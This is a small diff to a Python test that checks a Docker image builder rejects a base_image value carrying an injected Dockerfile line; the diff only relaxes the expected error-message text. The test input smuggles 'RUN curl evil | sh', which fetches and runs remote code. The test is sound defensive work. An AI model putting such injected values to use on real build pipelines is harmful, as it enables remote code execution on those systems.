@@ -151,5 +151,5 @@ def test_a_base_image_that_adds_a_dockerfile_line_is_refused(tmp_path):
     from flowimg.storage import Docker
 
     storage = Docker(base_image="python:3.11-slim\nRUN curl evil | sh", image_name="flows")
-    with pytest.raises(FlowimgError, match="invalid base_image reference"):
+    with pytest.raises(FlowimgError, match="invalid base_image "):
         storage.image_spec()
